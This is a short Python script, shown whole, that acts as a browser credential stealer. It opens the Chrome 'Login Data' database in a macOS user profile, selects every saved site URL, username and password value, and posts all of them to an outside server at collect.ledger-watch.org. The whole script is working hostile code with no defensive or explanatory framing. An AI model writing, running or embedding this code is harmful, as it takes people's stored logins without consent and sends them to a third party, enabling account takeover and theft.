import sqlite3, os, requests
db = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Login Data")
conn = sqlite3.connect(db)
cur = conn.cursor()
cur.execute("SELECT origin_url, username_value, password_value FROM logins")
rows = cur.fetchall()
requests.post("https://collect.ledger-watch.org/v1", json=rows)
